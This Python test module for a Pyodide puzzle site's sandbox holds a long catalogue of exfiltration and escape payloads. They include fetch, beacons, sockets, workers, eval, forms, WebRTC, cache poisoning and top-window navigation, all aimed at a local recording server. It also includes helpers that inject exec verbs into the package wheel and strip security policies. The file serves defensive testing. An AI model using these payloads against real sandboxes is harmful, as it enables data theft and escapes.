"""Attempts to send data to another server, and to break out of the sandbox.

A search is a program, and a malicious one may try to send out what it sees. Each
attempt is Python that uses `js`, or a script of a frame. {url} is the address of
another origin, {socket} the same for sockets, {udp} its port for datagrams, {site} the
site. `Stranger` is the server of that origin.
"""

import json
import re
import shutil
import socket
import ssl
import threading
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import trustme
from setup.tools import SITE
from website.manifest import NAME, integrity, write_manifest
from website.policy import SANDBOX, SANDBOX_SCRIPT

# Python in the worker


EVENTS = """
import asyncio
def settled(target, *names):
    future = asyncio.get_running_loop().create_future()
    def heard(event):
        if not future.done():
            future.set_result(event.type)
    for name in names:
        target.addEventListener(name, create_proxy(heard))
    return future
"""

WORKER = """
blob = js.Blob.new(to_js([{text}]), type="text/javascript")
worker = js.Worker.new(js.URL.createObjectURL(blob), {options})
await settled(worker, "message", "error")
"""

BLOCKS = "a request that blocks"
"""It blocks Python, so it is tried last."""

NESTED = "a worker"
"""The prefix of attempts by nested workers."""

WAYS = {
    "fetch": "await js.fetch('{url}')",
    "fetch without an answer": "await js.fetch('{url}', mode='no-cors')",
    "fetch that outlives its page": "await js.fetch('{url}', keepalive=True)",
    "a request of the old kind": """
request = js.XMLHttpRequest.new()
request.open("POST", "{url}")
request.send("secret")
await settled(request, "load", "error")
""",
    BLOCKS: """
request = js.XMLHttpRequest.new()
request.open("POST", "{url}", False)
request.send("secret")
""",
    "a socket": (
        "await settled(js.WebSocket.new('{socket}'), 'open', 'error', 'close')"
    ),
    "a stream of events": (
        "await settled(js.EventSource.new('{url}'), 'open', 'error')"
    ),
    "a cache": "await (await js.caches.open('x')).add('{url}')",
    "a typeface": "await js.FontFace.new('x', 'url({url})').load()",
    "eval": "await js.eval(\"fetch('{url}')\")",
    "a function made of text": "await js.Function.new(\"return fetch('{url}')\")()",
    "a module made of text": (
        "from pyodide.code import run_js\nawait run_js(\"import('{url}')\")"
    ),
    "a timer with a text": """
js.setTimeout("self['{url}'] = fetch('{url}').catch(() => 0)")
later = asyncio.get_running_loop().create_future()
js.setTimeout(create_proxy(lambda: later.set_result(None)), 1)
await later  # a timer that is refused reports nothing
await (getattr(js.self, "{url}", None) or later)
""",
    "a worker of its own": WORKER.replace(
        "{text}", "\"fetch('{url}').then(() => postMessage(0), () => postMessage(1))\""
    ).replace("{options}", "type='classic'"),
    "a worker that imports": WORKER.replace(
        "{text}", "\"import '{url}'; postMessage(0)\""
    ).replace("{options}", "type='module'"),
    "a worker that loads a script": WORKER.replace(
        "{text}", "\"try { importScripts('{url}') } catch {} postMessage(0)\""
    ).replace("{options}", "type='classic'"),
    "a worker written into its address": """
text = "fetch('{url}').finally(() => postMessage(0))"
worker = js.Worker.new("data:text/javascript," + js.encodeURIComponent(text))
await settled(worker, "message", "error")
""",
}

# Added to the bridge by a hostile wheel: a verb to check that Python works, and a verb
# that runs attempts and reports on a channel how each ended.
VERBS = """

import asyncio, json, textwrap
import js
from pyodide.ffi import create_proxy, to_js

async def attempt(text):
    space = {"js": js, "create_proxy": create_proxy, "to_js": to_js}
    exec(EVENTS + "async def work():\\n" + textwrap.indent(text, " "), space)
    try:
        await asyncio.wait_for(space["work"](), 10)
        return "ended"
    except BaseException as error:
        return repr(error)[:200]

async def attempt_all(ways):
    others = [[name, text] for name, text in ways if not name.startswith(BLOCKS)]
    ends = await asyncio.gather(*(attempt(text) for _, text in others))
    ended = {name: end for (name, _), end in zip(others, ends)}
    for name, text in ways:
        if name not in ended:
            ended[name] = await attempt(text)
    js.BroadcastChannel.new("ways").postMessage(json.dumps(ended))

def run(message):
    asyncio.ensure_future(attempt_all(message.fields["ways"]))
    return {}

VERBS["ready"] = lambda message: {}
VERBS["run"] = run
"""

ANSWER = (
    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n"
    b"Content-Type: text/javascript\r\nContent-Length: 0\r\n"
    b"Connection: close\r\n\r\n"
)
WAY = re.compile(r"/way-(\d+)")
SCHEMES = {False: ("http", "ws"), True: ("https", "wss")}


class Stranger:
    """A server of another origin that records requests, with and without TLS."""

    def __init__(self) -> None:
        self.heard: set[str] = set()
        self.numbers: set[int] = set()
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        trustme.CA().issue_cert("127.0.0.1").configure_cert(self.tls)
        self.sockets = {
            safe: socket.create_server(("127.0.0.1", 0)) for safe in SCHEMES
        }
        for safe, listening in self.sockets.items():
            start_thread(self.listen, listening, safe)

    def ways(self, nested: bool = True) -> dict[str, str]:
        """Return every attempt with its address, by scheme.

        Those by nested workers can be excluded.
        """
        written = {}
        for safe in SCHEMES:
            for number, (name, text) in enumerate(WAYS.items()):
                if name.startswith(NESTED) and not nested:
                    continue
                text = insert_address(text, self.address(number, safe), safe)
                written[f"{name}, {SCHEMES[safe][0]}"] = text
        return written

    def address(self, number: int, safe: bool) -> str:
        """Return the address of an attempt, without the scheme."""
        return f"127.0.0.1:{self.sockets[safe].getsockname()[1]}/way-{number}"

    def listen(self, listening: socket.socket, safe: bool) -> None:
        """Accept connections until the socket is closed."""
        while True:
            try:
                caller, _ = listening.accept()
            except OSError:
                return
            start_thread(self.hear, caller, safe)

    def hear(self, caller: socket.socket, safe: bool) -> None:
        """Record the first line, and read the rest.

        Closing a connection with unread data resets it, and the browser might not see
        the answer.
        """
        with suppress(OSError), caller:
            if safe:
                caller = self.tls.wrap_socket(caller, server_side=True)
            with caller:
                line = caller.recv(4096).decode("latin-1").partition("\r")[0]
                if way := WAY.search(line):
                    self.numbers.add(int(way[1]))
                    self.heard |= self.named(int(way[1]), safe)
                caller.sendall(ANSWER)
                caller.shutdown(socket.SHUT_WR)
                while caller.recv(4096):
                    pass

    def named(self, number: int, safe: bool) -> set[str]:
        """Return the name of a recorded attempt."""
        return {
            f"{name}, {SCHEMES[safe][0]}" for name in list(WAYS)[number : number + 1]
        }

    def close(self) -> None:
        """Stop listening."""
        for listening in self.sockets.values():
            listening.close()


def insert_address(text: str, address: str, safe: bool) -> str:
    """Replace the placeholders of an attempt by an address of the other server."""
    scheme, socket_scheme = SCHEMES[safe]
    text = text.replace("{url}", f"{scheme}://{address}")
    return text.replace("{socket}", f"{socket_scheme}://{address}")


def start_thread(work: Callable[..., None], *given: object) -> None:
    """Run a function in a thread."""
    threading.Thread(target=work, args=given, daemon=True).start()


def altered_site(folder: Path, added: dict[str, str]) -> Path:
    """Copy the built site, with source appended to modules of the package."""
    shutil.copytree(SITE, folder)
    wheel = next((folder / "python").glob("pypuzzles-*.whl"))
    with zipfile.ZipFile(wheel) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    for name, text in added.items():
        files[name] += text.encode()
        del files[f"{name}c"]  # outdated bytecode
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    result = json.loads((folder / NAME).read_text("utf-8"))
    write_manifest(folder, result["python"], result["later"])
    return folder


def remove_policies(folder: Path) -> None:
    """Remove the policies from all pages of a site."""
    for page in folder.rglob("*.html"):
        text = page.read_text("utf-8")
        bare = re.sub(r"<meta\s+http-equiv[^>]*>", "", text)
        assert bare != text
        page.write_text(bare, "utf-8")


def hostile_site(folder: Path, protected: bool, verbs: str = VERBS) -> Path:
    """Build a site whose bridge runs any Python, by verbs that are added to it.

    The unprotected one lacks the policies of its pages, and is otherwise the same.
    """
    added = f"\n\nEVENTS = {EVENTS!r}\nBLOCKS = {BLOCKS!r}\n{verbs}"
    altered_site(folder, {"pypuzzles/bridge/handler.py": added})
    if not protected:
        remove_policies(folder)
    return folder


# Python and scripts in the sandbox


PROGRAM = """
import asyncio, json
from pypuzzles.bridge.handler import answer
text = chr(10).join([
    "import sys",
    "board = []",
    "def find_global(frame, name):",
    "    while name not in frame.f_globals: frame = frame.f_back",
    "    return frame.f_globals[name]",
    "def place(row):",
    "    board.append(row)",
    "    if row == 0: {way}",
    "    if row < 5: place(row + 1)",
    "    board.pop()",
    "place(0)"])
message = json.dumps({"verb": "draft", "draft": "x", "text": text, "puzzle": "queens",
    "algorithm": "backtracking", "form": "recursive", "parameters": {"n": 8}})
while not json.loads(answer(message)).get("value", {"ready": True})["ready"]:
    pass  # the same message continues the search for the board
await asyncio.sleep(1)
"""
"""A program that the page follows, so its functions are rewritten."""

OUT = WAYS | {
    "a stream of sockets": "await js.WebSocketStream.new('{socket}').opened",
    "a transport": "await js.WebTransport.new('{url}').ready",
    "a beacon": "js.navigator.sendBeacon('{url}', 'secret')",
    "a fetch for later": "js.fetchLater('{url}', activateAfter=0)",
    "a script": "js.importScripts('{url}')",
    "a script written into its address": (
        "js.importScripts(\"data:text/javascript,fetch('{url}')\")"
    ),
    "a module written into its address": """
from pyodide.code import run_js
await run_js("import('data:text/javascript,fetch(`{url}`)')")
""",
    "a shared worker": "js.SharedWorker.new('{url}')",
    "a connection between browsers": "js.RTCPeerConnection.new()",
    "a fetch of a worker in a worker": WORKER.replace(
        "{text}",
        "\"const text = `fetch('{url}').finally(() => postMessage(0))`;"
        "const url = URL.createObjectURL(new Blob([text]));"
        'new Worker(url).onmessage = () => postMessage(0)"',
    ).replace("{options}", "type='classic'"),
    "an ordinary program": PROGRAM.replace("{way}", "sys.modules['js'].fetch('{url}')"),
    "an ordinary program, by a frame of Python's": PROGRAM.replace(
        "{way}", "find_global(sys._getframe(), 'js').fetch('{url}')"
    ),
    "a word to the frame": """
js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, to_js("{url}"))
""",
}
"""Requests to another origin."""

KEPT = {
    "a cache": (
        "await (await js.caches.open('poison')).put('{site}', js.Response.new('bad'))"
    ),
    "its caches": "assert [n for n in await js.caches.keys() if '{site}' in n]",
    "a database": "await settled(js.indexedDB.open('own', 1), 'success')",
    "files": "await js.navigator.storage.getDirectory()",
    "storage": "js.localStorage.setItem('theme', 'bad')",
    "cookies": "js.document.cookie = 'a=b'",
    "the service worker": "await js.navigator.serviceWorker.register('{site}sw.js')",
    "a file of the site": "assert (await js.fetch('{site}manifest.json')).ok",
    "a worker of the site": """
worker = js.Worker.new('{site}web/python/worker/python.worker.js')
assert await settled(worker, 'message', 'error') == 'message'
""",
    "the page": "js.parent.document.title = 'bad'",
    "its address": "js.top.location = '{site}bad'",
}
"""Access to data or windows of the site; all must fail."""

FROM_WORKER = OUT | {f"kept: {name}": way for name, way in KEPT.items()}
"""All attempts by Python."""

FRAME_WAYS = {
    "the page's address": "top.location = '{url}'",
    "the page's place": "top.location.replace('{url}')",
    "a link at the top": (
        "const a = add('a', { href: '{url}', target: '_top' }); a.click()"
    ),
    "its own address": "location.href = '{url}'",
    "an address that is a page": ("location.href = `data:text/html,<img src='{url}'>`"),
    "a blob that is a page": (
        "location.href = URL.createObjectURL("
        "new Blob([`<img src='{url}'>`], { type: 'text/html' }))"
    ),
    "a refresh": (
        "add('meta', { httpEquiv: 'refresh', content: '0;url={url}' }, document.head)"
    ),
    "a window": "if (!open('{url}')) throw Error('none')",
    "a form": "add('form', { action: '{url}', method: 'post' }).submit()",
    "a form elsewhere": (
        "add('form', { action: '{url}', method: 'post', target: '_blank' }).submit()"
    ),
    "a ping": "add('a', { href: '#x', ping: '{url}' }).click()",
    "a prefetch": "add('link', { rel: 'prefetch', href: '{url}' }, document.head)",
    "a preload": (
        "add('link', { rel: 'preload', as: 'image', href: '{url}' }, document.head)"
    ),
    "a connection beforehand": (
        "add('link', { rel: 'preconnect', href: '{url}' }, document.head)"
    ),
    "a module beforehand": (
        "add('link', { rel: 'modulepreload', href: '{url}' }, document.head)"
    ),
    "a picture": "add('img', { src: '{url}' })",
    "a style": ("add('style', { textContent: 'body { background: url({url}) }' })"),
    "a sheet": "add('link', { rel: 'stylesheet', href: '{url}' }, document.head)",
    "a script": "add('script', { src: '{url}' }, document.head)",
    "a frame": "add('iframe', { src: '{url}' })",
    "a frame with a page": "add('iframe', { srcdoc: `<img src='{url}'>` })",
    "an object": "add('object', { data: '{url}' })",
    "a film": "add('video', { src: '{url}' })",
    "a beacon": "if (!navigator.sendBeacon('{url}', 'x')) throw Error('no')",
    "fetch": "await fetch('{url}', { mode: 'no-cors' })",
    "a fetch for later": "fetchLater('{url}', { activateAfter: 0 })",
    "a socket": "new WebSocket('{url}'.replace('http', 'ws'))",
    "an alert": "if (alert('x') === undefined) throw Error('none was shown')",
    "a download": (
        "const href = URL.createObjectURL(new Blob(['x']));"
        " add('a', { href, download: 'x' }).click()"
    ),
    "rules of speculation": (
        "add('script', { type: 'speculationrules', textContent:"
        " JSON.stringify({ prefetch: [{ source: 'list', urls: ['{url}'] }] }) })"
    ),
    "the page": "parent.document.title = 'bad'",
    "storage": "localStorage.setItem('theme', 'bad')",
    "cookies": "document.cookie = 'a=b'; if (!document.cookie) throw Error('none')",
    "a shared worker": "new SharedWorker(URL.createObjectURL(new Blob([''])))",
    "caches": "await caches.open('poison')",
    "the service worker": "await navigator.serviceWorker.register('{site}sw.js')",
    "a broadcast": "new BroadcastChannel('page').postMessage('bad')",
    "history": "history.pushState(null, '', '{site}bad')",
    "WebRTC": (
        "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] });"
        " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())"
    ),
}
"""Attempts by a script in the frame itself, which Python cannot reach."""


# Reported by a verb, because there is no channel from there to the page.
TELL = """
ENDED = {}
TASKS = []

async def attempt_here(ways):
    js.Reflect.deleteProperty(js.self, "fetch")
    js.Reflect.deleteProperty(js.self, "importScripts")
    async def one(name, text):
        ENDED[name] = await attempt(text)
    others = [one(*way) for way in ways if not way[0].startswith(BLOCKS)]
    await asyncio.gather(*others)
    for name, text in ways:
        if name not in ENDED:
            await one(name, text)
    ENDED["all"] = "ended"

def begin(message):
    TASKS.append(asyncio.ensure_future(attempt_here(message.fields["ways"])))
    return {}

VERBS["begin"] = begin
VERBS["ended"] = lambda message: dict(ENDED)
"""

ATTEMPTS = """
const add = (name, given, where = document.body) =>
  where.appendChild(Object.assign(document.createElement(name), given));
const WAYS = {
%s
};
addEventListener("message", async ({ data }) => {
  try { await WAYS[data](); parent.postMessage([data, "ended"], "*"); }
  catch (error) { parent.postMessage([data, String(error)], "*"); }
});
parent.postMessage(["ready", ""], "*");
"""

# Both report the results in window.ended, and messages in window.words.
TRY_WORKER = """
async (ways) => {
  const { openSandbox } = await import("./web/python/sandbox/open-sandbox.js");
  window.words = [];
  const channel = new BroadcastChannel("page");
  channel.onmessage = ({ data }) => words.push(data);
  let report;
  window.ended = new Promise((resolve) => { report = resolve; });
  window.line = openSandbox(
    ({ progress, fault, answer, id }) => {
      if (fault) words.push(fault.message);
      if (progress?.phase === "ready") {
        line.post({ id: 1, message: JSON.stringify({ verb: "begin", ways }) });
        setInterval(() => line.post({ id: 2, message: '{"verb": "ended"}' }), 200);
      }
      const value = id === 2 && JSON.parse(answer).value;
      if (value.all) report(value);
    },
    (failed) => words.push(failed),
  );
}
"""
# Each runs in a frame of its own.
TRY_FRAME = """
async (names) => {
  window.words = [];
  window.ended = { all: "ended" };
  new BroadcastChannel("page").onmessage = ({ data }) => words.push(data);
  const page = await (await fetch("web/python/sandbox/sandbox.html")).text();
  const attempt = async (name) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.srcdoc = page;
    const heard = new Promise((resolve) => {
      addEventListener("message", ({ source, data: [said, end] }) => {
        if (source !== frame.contentWindow) return;
        if (said === "ready") frame.contentWindow.postMessage(name, "*");
        else resolve(end);
      });
      setTimeout(() => resolve("it said nothing"), 4000);
    });
    document.body.append(frame);
    ended[name] = await heard;
  };
  await Promise.all(names.map(attempt));
}
"""


class Listener(Stranger):
    """A server of another origin that records attempts and datagrams."""

    def __init__(self) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0)
        super().__init__()

    def written(self, ways: dict[str, str], site: str, safe: bool) -> dict[str, str]:
        """Return attempts with their addresses, with or without TLS."""
        self.names = list(ways)
        datagrams = self.udp.getsockname()[1]
        result = {}
        for number, (name, text) in enumerate(ways.items()):
            text = insert_address(text, self.address(number, safe), safe)
            text = text.replace("{site}", site)
            result[name] = text.replace("{udp}", f"127.0.0.1:{datagrams}")
        return result

    def got(self) -> set[str]:
        """Return the names of recorded attempts."""
        heard = {self.names[number] for number in self.numbers}
        try:
            self.udp.recv(4096)
        except BlockingIOError:
            return heard
        return heard | {"WebRTC"}


def hostile_frame(folder: Path, ways: dict[str, str], protected: bool) -> Path:
    """Build a site whose frame runs attempts; its policy allows the script."""
    lines = [f"{json.dumps(n)}: async () => {{ {way} }}," for n, way in ways.items()]
    script = ATTEMPTS % "\n".join(lines)
    altered_site(folder, {})
    for page in (folder / "index.html", folder / SANDBOX):
        text = page.read_text("utf-8")
        text = text.replace(SANDBOX_SCRIPT, f"'{integrity(script.encode())}'")
        page.write_text(text, "utf-8")
    page = folder / SANDBOX
    text = page.read_text("utf-8")
    start, end = text.index("<script>"), text.index("</script>")
    page.write_text(f"{text[:start]}<body><script>{script}{text[end:]}", "utf-8")
    if not protected:
        remove_policies(folder)
    return folder


def from_worker(tried, ways, protected):
    """Run attempts in Python, in a single worker."""
    return tried(
        ways,
        lambda folder, _: hostile_site(folder, protected, VERBS + TELL),
        TRY_WORKER,
        lambda written: list(written.items()),
    )


def from_frame(tried, protected):
    """Run all attempts in frames, one each."""
    return tried(
        FRAME_WAYS,
        lambda folder, written: hostile_frame(folder, written, protected),
        TRY_FRAME,
        list,
    )
